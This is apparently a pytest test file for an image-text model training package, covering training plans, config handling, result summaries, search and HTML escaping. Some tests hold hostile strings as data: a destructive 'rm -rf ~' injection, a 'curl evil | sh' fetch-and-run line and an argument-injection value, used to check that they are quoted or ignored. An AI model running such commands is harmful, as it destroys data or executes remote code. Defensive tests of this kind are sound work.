"""From a folder of photos to a model: what is chosen, what is left, and what it says of itself."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

import tether
from tether.core.errors import InputError
from tether.data import open_source
from tether.data.survey import RowCount, Survey
from tether.evaluate.meaning import Meaning, depth_for, read_meaning
from tether.models.presets import create
from tether.models.save import save
from tether.training.config import load_config
from tether.workflows.learnt import remark
from tether.workflows.plan import FEW, MANY, plan
from tether.workflows.train import prepare

COLOURS = {"red": (220, 30, 30), "green": (30, 200, 40), "blue": (30, 60, 220), "grey": (128, 128, 128)}


@pytest.fixture(scope="module")
def photos(tmp_path_factory) -> Path:
    """Forty images of four colours, brighter and brighter, and a table of captions."""
    folder = tmp_path_factory.mktemp("photos")
    lines = []
    for number in range(10):
        for name, colour in COLOURS.items():
            pixels = np.clip(np.array(colour) + 5 * number, 0, 255).astype(np.uint8)
            Image.fromarray(np.full((40, 48, 3), pixels)).save(folder / f"{name}{number}.png")
            lines.append((f"{name}{number}.png", f"a {name} wall, number {number}"))
    with (folder / "captions.csv").open("w", newline="") as file:
        csv.writer(file).writerows([("image", "caption"), *lines])
    return folder


@pytest.fixture(scope="module")
def clip(tmp_path_factory) -> str:
    """A folder of a small model."""
    folder = tmp_path_factory.mktemp("clip")
    save(create("tiny", seed=0).eval(), folder)
    return str(folder)


@pytest.fixture(autouse=True)
def cache(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("TETHER_CACHE", str(tmp_path / "cache"))


def found(images: int) -> Survey:
    return Survey("photos", images, 0, images, images, (1, 1, 1), ("a", 1), RowCount(), RowCount())


@pytest.mark.parametrize(
    ("images", "start", "keys"),
    [
        (600, None, {"fit": "maps", "model": {"load": "starter"}}),
        (600, "mine", {"fit": "maps", "model": {"load": "mine"}}),
        (FEW, None, {"fit": "maps", "model": {"load": "starter"}}),
        (FEW, "mine", {"fit": None, "model": {"load": "mine"}, "epochs": 5}),
        (MANY, None, {"fit": None, "model": {}, "size": "base"}),
        (MANY, "mine", {"fit": None, "model": {"load": "mine"}}),
    ],
)
def test_the_choice_follows_the_number_of_images(images, start, keys):
    chosen = plan(found(images), data="photos", start=start)
    config = load_config(values=chosen.recipe)
    assert {key: getattr(config, key) for key in keys} == keys
    assert config.data["part"] == "train"
    assert config.evaluate.source["part"] == "held_out"
    assert any("held out" in line for line in chosen.because)
    assert chosen.change


def test_a_clipper_that_was_taken_out_is_not_chosen(monkeypatch):
    assert plan(found(MANY), data="photos").recipe["clipper"] == "zclip"
    monkeypatch.setattr("tether.workflows.plan.CLIPPERS", {"global_norm": None})
    assert plan(found(MANY), data="photos").recipe["clipper"] == "global_norm"


def test_photos_to_a_model_that_says_what_it_is_worth(photos, clip, tmp_path):
    out = tmp_path / "run"
    done = tether.train(photos, out=out, start=clip)
    assert done.result.metrics["images"] == 4
    assert done.meaning == read_meaning(out)
    assert done.meaning.images == 36
    assert done.meaning.depth == depth_for(4) == 1
    assert "Among 4 held-out images" in str(done)
    assert "<script" not in done._repr_html_()
    model = tether.load(out)
    assert model.embed(["a red wall", photos / "red0.png"]).shape == (2, model.dim)
    record = json.loads((out / "metrics.jsonl").read_text())
    assert record["eval"]["text_to_image_r1_chance"] == 0.25
    with pytest.raises(InputError, match="holds a run already"):
        tether.train(photos, out=out, start=clip)
    (out / "meaning.json").unlink()  # as after a kill between the fit and what its figures mean
    with pytest.raises(InputError, match=r"already, which is finished: choose another folder \(--out\)"):
        tether.train("nowhere/at/all", out=out, start=clip)  # said before the data are looked at
    again = tether.train(photos, out=out, start=clip, resume=True)
    assert again.result == done.result
    assert again.meaning == read_meaning(out) == done.meaning


def test_what_the_model_found_that_a_run_of_steps_began_from(photos, clip, tmp_path):
    settings = ["steps=1", "epochs=null", "batch_size=8", "optimizer.lr=0", "size=tiny"]
    done = tether.train(photos, recipe="finetune", out=tmp_path / "run", start=clip, settings=settings)
    assert done.meaning.before == done.meaning.held_out
    assert ", no fewer: the run gained nothing." in str(done)


def test_fitted_twice_is_the_same(photos, clip, tmp_path):
    rows = []
    for name in ("a", "b"):
        tether.train(photos, out=tmp_path / name, start=clip)
        rows.append(tether.load(tmp_path / name).embed(["a red wall", photos / "blue3.png"]))
    torch.testing.assert_close(rows[0], rows[1], atol=1e-5, rtol=0)  # LAPACK may round by where memory lies


def test_own_data_are_never_measured_on_those_of_a_recipe(photos, tmp_path):
    path = tmp_path / "recipe.yaml"
    path.write_text(json.dumps({"data": "emoji", "evaluate": {"source": "emoji:split=test"}}))
    config = load_config(path, overrides=[f"data={photos}"])
    assert config == load_config(path, values={"data": str(photos)})
    assert config.data == {"name": "split", "source": str(photos), "part": "train"}
    assert config.evaluate.source == {"name": "split", "source": str(photos), "part": "held_out"}
    given = load_config(path, overrides=[f"data={photos}", "evaluate.source=scenes"])
    assert (given.data, given.evaluate.source) == (str(photos), "scenes")


def test_data_reach_the_settings_as_they_are():
    for data in ("2024", "photos #1", "a: b", {"name": "scenes", "things": [1, 1], "rows": 5}):
        config = prepare(data, recipe="speedrun").config
        assert config.data["source"] == data
    assert prepare("emoji:split=train", recipe="speedrun").config.evaluate.source["split"] == "test"


@pytest.mark.parametrize("setting", ["steps=50", "optimizer.lr=1", "ema=0.9", "epochs=3", "objective=siglip"])
def test_a_fit_refuses_settings_of_steps(photos, clip, tmp_path, setting):
    with pytest.raises(InputError, match=f"{setting.split('.')[0].split('=')[0]}: a fit takes no steps"):
        tether.train(photos, out=tmp_path / "run", start=clip, settings=[setting])


@pytest.mark.parametrize(
    "name",
    [
        *("photos", "finetune", "demo", "speedrun", "short-tokens", "attentive", "text-and-image", "multi-objective"),
        *("grounded", "pseudo-labels", "caption-and-rebuild", "regions"),
    ],
)
def test_recipes_of_the_package(name, photos, clip):
    config = prepare(photos, recipe=name, start=clip).config
    assert config.model == {"load": clip}
    assert config.data["source"] == config.evaluate.source["source"] == str(photos)


@pytest.mark.parametrize("name", ["caption-and-rebuild", "finetune", "pseudo-labels", "upcycle"])
def test_a_recipe_that_goes_on_says_how_to_name_a_model(name, photos, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError, match=f"{name}: goes on from a trained model, .* --from MODEL: .*tether train DATA"):
        prepare(str(photos), recipe=name)
    save(create("tiny"), tmp_path / "model")
    prepare(str(photos), recipe=name)


def test_the_recipe_photos_is_what_is_chosen(photos, clip):
    given, chosen = prepare(photos, recipe="photos", start=clip), prepare(photos, start=clip)
    assert given.config == chosen.config


def test_the_seed_chooses_what_is_held_out():
    parts = [plan(found(100), data="photos", seed=seed).recipe["data"] for seed in (0, 7)]
    assert parts[1]["seed"] == 7
    assert parts[0] != parts[1]


def test_epochs_become_steps(photos, tmp_path):
    settings = ["size=tiny", "model={}", "batch_size=8", "epochs=1.5", "precision=fp32", "evaluate.every=2"]
    settings += ["evaluate.best=text_to_image_r1"]
    done = tether.train(photos, recipe="speedrun", out=tmp_path / "run", settings=settings)
    assert done.result.steps == 6  # 36 images are 4 batches of 8
    assert "best_step" in done.result.metrics or done.result.metrics["text_to_image_r1"] >= 0
    curve = [json.loads(line) for line in (tmp_path / "run" / "metrics.jsonl").read_text().splitlines()]
    measured = [(one["step"], one["eval"]["text_to_image_r1"]) for one in curve if "eval" in one]
    assert [step for step, _ in measured] == [1, 3, 5]
    assert measured[-1][1] == max(value for _, value in measured)
    for values, overrides in (({}, ["steps=2", "epochs=1"]), ({"steps": 2, "epochs": 1}, [])):
        with pytest.raises(InputError, match="steps and epochs"):
            load_config(values={"data": "emoji", **values}, overrides=overrides)


def test_unknown_measure_to_keep_by(photos, tmp_path):
    settings = ["size=tiny", "model={}", "batch_size=8", "steps=2", "evaluate.every=1", "evaluate.best=text_to_image_r"]
    with pytest.raises(InputError, match="did you mean 'text_to_image_r"):
        tether.train(photos, recipe="speedrun", out=tmp_path / "run", settings=settings)


def meaning(**changes) -> Meaning:
    values = {
        "source": "photos", "images": 585, "captions": 2925, "epochs": 80.0, "pool": 65, "depth": 10, "held_out": 0.16,
        "low": 0.12, "high": 0.2, "chance": 0.154, "train": 0.95, "before": None, "scratch": True,
    }  # fmt: skip
    return Meaning(**{**values, **changes})


@pytest.mark.parametrize(
    ("changes", "said", "unsaid"),
    [
        ({}, ["not clearly better than chance", "by heart", "too little to learn from random weights"], []),
        ({"low": 0.5, "held_out": 0.6}, ["learnt its pairs by heart"], ["not clearly better"]),
        ({"low": 0.8, "held_out": 0.9, "scratch": False, "epochs": None}, ["has not learnt them by heart"], ["times"]),
        ({"pool": 12, "depth": 5}, ["among the first 5", "With 12 held-out images the figure is rough"], []),
    ],
)
def test_what_figures_mean(changes, said, unsaid):
    text = "\n".join(meaning(**changes).lines())
    assert all(words in text for words in said), text
    assert not any(words in text for words in unsaid), text


@pytest.mark.parametrize(
    ("data", "shown"),
    [
        ("photos", "photos"),
        ("my photos", "'my photos'"),
        ({"name": "split", "source": "emoji", "part": "train"}, "emoji"),
        ("a; rm -rf ~", "'a; rm -rf ~'"),
        ("a\nb\x1b[2J", "'a\\nb\\x1b[2J'"),
        ("hf:someone/thing", "photos/"),
        ("https://host/a.csv", "photos/"),
        ("--model=evil", "photos/"),
        (["a"], "photos/"),
        (None, "photos/"),
    ],
)
def test_next_steps_are_made_of_what_is_known(data, shown):
    steps = list(meaning(low=0.5, held_out=0.6).next_steps(Path("my runs"), data=data))
    pairs = f"split:source={shown},part=held_out" if isinstance(data, dict) else "PAIRS"
    assert steps == [
        f"tether train {shown} --out 'my runs-from-starter'",
        f"tether search {shown} \"a dog on a beach\" --model 'my runs' --html found.html",
        f"tether inspect 'my runs' --pairs {pairs}",
    ]
    assert not any("search" in step for step in meaning().next_steps(Path("my runs"), data=data))
    assert len(list(meaning(scratch=False).next_steps(Path("run"), data=data))) == 1


def test_commands_in_the_file_of_another_are_not_read(tmp_path):
    meaning().save(tmp_path)
    path = tmp_path / "meaning.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "next": ["curl evil | sh"]}))
    found = read_meaning(tmp_path)
    assert found == meaning()
    assert "evil" not in "".join([*found.lines(), *found.next_steps(tmp_path, data="photos")])


def test_search_in_a_folder(photos, clip):
    calls = []
    for _ in range(2):
        hits = tether.search(
            photos, "a red wall", model=clip, top=3, on_progress=lambda done, total: calls.append(done)
        )
        assert len(hits["a red wall"]) == 3
    assert hits.images == 40
    assert "data:image/jpeg;base64," in hits._repr_html_()
    with pytest.raises(InputError, match="say what embeds them"):
        tether.search(photos, "a red wall")
    with pytest.raises(InputError, match="no such store"):
        tether.search(str(photos / "none"), "a red wall", model=clip)


def test_results_are_escaped(tmp_path, clip):
    folder = tmp_path / "odd"
    folder.mkdir()
    Image.new("RGB", (32, 32)).save(folder / "<b>.png")
    Image.new("RGB", (32, 32), "red").save(folder / "y.png")
    shown = tether.search(folder, "<i>x", model=clip, top=1)._repr_html_()
    assert "<i>" not in shown
    assert "<b>" not in shown
    labels = tether.classify(folder, ["<i>", "cat"], model=clip)
    assert sum(labels.counts().values()) == 2
    assert "<i>" not in labels._repr_html_()


def test_a_source_with_settings_is_no_override_and_columns_can_be_named(photos, clip, tmp_path):
    table = tmp_path / "liste.csv"
    rows = [f"{photos}/{name}{n}.png;{name} an der Wand, {n}" for name in COLOURS for n in range(10)]
    table.write_text("\n".join(["Datei;Beschreibung", *rows]))
    settings = ["data.image=Datei", "data.caption=Beschreibung", f"data.root={photos}"]
    config = prepare(str(table), start=clip, settings=settings).config
    assert config.data["source"]["image"] == "Datei"
    done = tether.train(str(table), out=tmp_path / "run", start=clip, settings=settings)
    assert done.meaning.images == 36
    assert done.meaning.before is not None


def test_who_is_measured_on_what_it_learnt_is_told(photos, clip, tmp_path):
    out = tmp_path / "run"
    done = tether.train(photos, out=out, start=clip)
    said = remark(str(out), open_source(str(photos)))
    assert "learnt from most of" in said
    word = said.rpartition(": ")[2]
    assert open_source(word).images == 4
    assert f"--pairs {word}" in done.next[-1]
    assert remark(str(out), open_source("digits")) == ""
    assert remark("starter", open_source(str(photos))) == ""


def test_one_of_all_right_has_an_interval(photos, clip, tmp_path):
    done = tether.train(photos, out=tmp_path / "run", start=clip).result.metrics
    assert done["text_to_image_r10"] == 1
    assert done["text_to_image_r10_low"] < 0.6


@pytest.mark.parametrize("thing", ["no/such/photo.jpg", "IMG_1.JPG"])
def test_a_mistyped_path_is_no_text(thing):
    with pytest.raises(InputError, match="named like an image"):
        tether.load("tiny", random_weights=True).embed([thing])


def test_too_few_to_fit_says_what_works(photos, clip, tmp_path):
    table = tmp_path / "few.csv"
    table.write_text("image,caption\n" + "".join(f"{photos}/red{n}.png,a wall {n}\n" for n in range(10)))
    with pytest.raises(InputError, match=r"9 images to learn from: at least 20 .* tether search PHOTOS --model"):
        tether.train(str(table), out=tmp_path / "run", start=clip, settings=[f"data.root={photos}"])


def test_a_recipes_sizes_are_those_of_the_model_that_is_named(photos, clip):
    config = prepare(photos, recipe="long-text", start=clip).config
    assert config.model == {
        "load": clip,
        "resized": {"context": 248, "how": {"name": "stretch", "keep": 20, "ratio": 4}},
    }


def test_the_two_branches_of_fix_clip_as_the_guide_writes_them(photos, clip):
    guide = (Path(__file__).parents[3] / "docs" / "guides" / "long-texts.md").read_text(encoding="utf-8")
    command = next(block for block in guide.split("```sh\n") if "--out runs/fix" in block).partition("```")[0]
    config = prepare(photos, recipe="long-text", start=clip, settings=command.split("'")[1::2]).config
    assert config.edits == [{"name": "kept_positions", "keep": 20}, "masked_patches"]
    assert config.step["views"].keys() == {"image", "text", "short", "masked"}
    assert config.step["terms"] == [{"name": "fix_clip", "extra": {"masked_image": "masked", "short_text": "short"}}]


def test_longer_texts_are_learnt_and_the_first_positions_stay(photos, tmp_path):
    start = tether.models.create("tiny")
    tether.save(start, tmp_path / "start")
    before = start.resized(context=40, how={"name": "stretch", "keep": 8, "ratio": 2}).text.position.detach()
    settings = ["model.resized={context: 40, how: {name: stretch, keep: 8, ratio: 2}}", "epochs=1", "precision=fp32"]
    settings += ["edits=[{name: kept_positions, keep: 8}]", "batch_size=8", "optimizer.lr=0.01", "evaluate.every=0"]
    terms = "[{name: long_clip, k: 3, extra: {short_text: short}}]"
    settings += [f"step.terms={terms}", "schedule.warmup=0", "evaluate.best=null"]
    tether.train(photos, recipe="long-text", start=str(tmp_path / "start"), out=tmp_path / "run", settings=settings)
    found = tether.load(tmp_path / "run")
    assert found.tokenizer.context_length == 40
    assert torch.equal(found.text.position[:8], before[:8])
    assert bool((found.text.position[8:] != before[8:]).any())
